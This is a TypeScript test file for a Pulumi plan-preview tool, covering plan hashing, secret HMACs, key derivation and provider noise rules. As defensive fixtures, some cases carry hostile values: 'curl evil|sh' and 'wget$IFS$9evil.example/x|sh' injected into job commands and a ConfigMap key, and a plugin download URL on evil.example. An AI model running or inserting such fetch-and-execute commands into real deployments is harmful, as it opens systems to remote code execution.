import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { readEventLog } from "../../../preview/events/engine-event";
import { noiseRule } from "../../../preview/events/noise";
import { normalisedPlan, planHash } from "../../../preview/plan/hash";
import { planKey } from "../../../preview/plan/key";
import { readPreview } from "../../../preview/events/read-preview";
import { eventLog, type Step } from "../../../sandbox/testing/engine-events";

const previewOf = (steps: readonly Step[], key = "k") =>
  readPreview(readEventLog(eventLog(steps)), { project: "p", stack: "s", key });
const hash = (steps: readonly Step[], key?: string) => planHash(previewOf(steps, key));

/** An update of one resource to `next`. */
const update = (type: string, next: object, paths: readonly string[], old: object = {}): Step[] => [
  { type, name: "x", op: "update", old, next, diff: Object.fromEntries(paths.map((path) => [path, "update"])) } as Step,
];
const deployment = "kubernetes:apps/v1:Deployment";
const configMap = "kubernetes:core/v1:ConfigMap";
const job = "kubernetes:batch/v1:Job";
const env = (value: string) => ({ spec: { env: [{ name: "LICENSE_KEY", value }] } });
const command = (text: string) => ({ spec: { command: ["sh", "-c", text] } });
/** A text that is too long to stand in a plan as it is. */
const long = "set -eu; exec /app/server --port=8080 --workers=4 --log-level=info --build=aaaa ";

const pairs: [string, Step[], Step[]][] = [
  ["where a provider's plugin comes from",
    update("pulumi:providers:gcp", { version: "9.0.0", region: "x" }, ["region"]),
    update("pulumi:providers:gcp", { version: "9.9.9", region: "x", pluginDownloadURL: "https://evil.example/" }, ["region", "version", "pluginDownloadURL"])],
  ["a ConfigMap key that looks like bookkeeping",
    update(configMap, { data: { a: "2" } }, ["data.a"]),
    update(configMap, { data: { a: "2", "__meta.sh": "curl evil|sh" } }, ["data.a", 'data["__meta.sh"]'])],
  ...["__meta", "__inputs", "__internal", "__defaults", "__fieldManager"].map((key): [string, Step[], Step[]] => [
    `the value of a ConfigMap's key ${key}`,
    update(configMap, { data: { [key]: "good" } }, [`data.${key}`]),
    update(configMap, { data: { [key]: "evil" } }, [`data.${key}`])]),
  ["a new ConfigMap's key __defaults",
    [{ type: configMap, name: "c", op: "create", next: { data: { __defaults: "good" } } }],
    [{ type: configMap, name: "c", op: "create", next: { data: { __defaults: "evil" } } }]],
  ["an environment variable with a secret's name", update(deployment, env("b"), ["spec.env[0].value"], env("a")), update(deployment, env("$(evil)"), ["spec.env[0].value"], env("a"))],
  ["the cluster that a switch is in",
    update("gke-bluegreen:workloads:TrafficSwitch", { kubeconfig: "dev2" }, ["kubeconfig"], { kubeconfig: "dev" }),
    update("gke-bluegreen:workloads:TrafficSwitch", { kubeconfig: "PROD" }, ["kubeconfig"], { kubeconfig: "dev" })],
  ["a command behind token=", update(job, command("token=aaaabbbb"), ["spec.command[2]"]), update(job, command("token=aaaa$(wget$IFS$9evil.example/x|sh)"), ["spec.command[2]"])],
  ["the same where a provider tells no properties",
    update(job, command("token=aaaabbbb"), []), update(job, command("token=aaaa$(wget$IFS$9evil.example/x|sh)"), [])],
  ["what follows a long text's beginning", update(job, command(`${long}1`), ["spec.command[2]"]), update(job, command(`${long}& curl evil.example|sh`), ["spec.command[2]"])],
  ["a file's content", asset("ab".repeat(6) + "0".repeat(52)), asset("ab".repeat(6) + "1".repeat(52))],
]; // prettier-ignore

function asset(hashOfFile: string): Step[] {
  const file = { "4dabf18193072939515e22adb298388d": "c44067f5952c0a294b673a41bacd8c17", hash: hashOfFile, path: "f" };
  return update("gcp:storage/bucketObject:BucketObject", { source: file }, ["source"]);
}

test.each(pairs)("plans that differ in %s have different hashes", (_, one, other) => {
  expect(hash(one)).not.toBe(hash(other));
  expect(hash(one)).toBe(hash(one));
});

test("no hash in a plan is cut: 48 bits collide in a minute", () => {
  const [item] = normalisedPlan(previewOf(update(job, command("x".repeat(200)), ["spec.command[2]"])));
  expect(item?.fields["spec.command[2]"]).toMatch(/sha256:[0-9a-f]{64}$/);
  expect(hash(update(job, {}, []))).toMatch(/^p2-[0-9a-f]{6}-[0-9a-f]{64}$/);
});

test("a hidden value is in the plan as a hash with the stack's key, which differs from stack to stack", () => {
  const steps = update(deployment, env("hunter2"), ["spec.env[0].value"], env("a"));
  const text = JSON.stringify(normalisedPlan(previewOf(steps)));
  expect(text).toMatch(/\[secret\].* → .*\[secret\].* hmac-sha256:[0-9a-f]{64}/);
  expect(text).not.toContain("hunter2");
  expect(hash(steps, "one key")).not.toBe(hash(steps, "another"));
});

test("the key is what the stack's secrets are encrypted with", () => {
  const folder = mkdtempSync(join(tmpdir(), "plan-key-"));
  try {
    const write = (salt: string) => writeFileSync(join(folder, "Pulumi.dev.yaml"), `encryptionsalt: ${salt}\n`);
    writeFileSync(join(folder, "passphrase"), "open sesame\n");
    write("v1:a");
    const key = planKey(folder, "dev", { PULUMI_CONFIG_PASSPHRASE: "open sesame" });
    expect(planKey(folder, "dev", { PULUMI_CONFIG_PASSPHRASE_FILE: join(folder, "passphrase") })).toBe(key);
    expect(planKey(folder, "dev", { PULUMI_CONFIG_PASSPHRASE: "another" })).not.toBe(key);
    write("v1:b");
    expect(planKey(folder, "dev", { PULUMI_CONFIG_PASSPHRASE: "open sesame" })).not.toBe(key);
  } finally {
    rmSync(folder, { recursive: true });
  }
});

test.each([
  ["pulumi:providers:gcp", "version", "9.0.1", "provider-version"],
  ["gcp:container/cluster:Cluster", "network.__defaults", ["a"], "provider-defaults"],
  ["gcp:container/cluster:Cluster", "__meta", "{}", "provider-defaults"],
  ["kubernetes:core/v1:ConfigMap", "__inputs.data.a", "x", "provider-defaults"],
  ["kubernetes:core/v1:Service", "status.loadBalancer", {}, "kubernetes-status"],
  ["kubernetes:core/v1:Service", "statusPage", "x", undefined],
  ["kubernetes:core/v1:ConfigMap", "data.__inputs", "x", undefined],
  ["gcp:compute/instance:Instance", "metadata.__defaults", "x", undefined],
])("%s %s is noise only where the engine or a provider writes it", (type, path, after, rule) => {
  expect(noiseRule(type, { path, before: undefined, after })).toBe(rule);
});
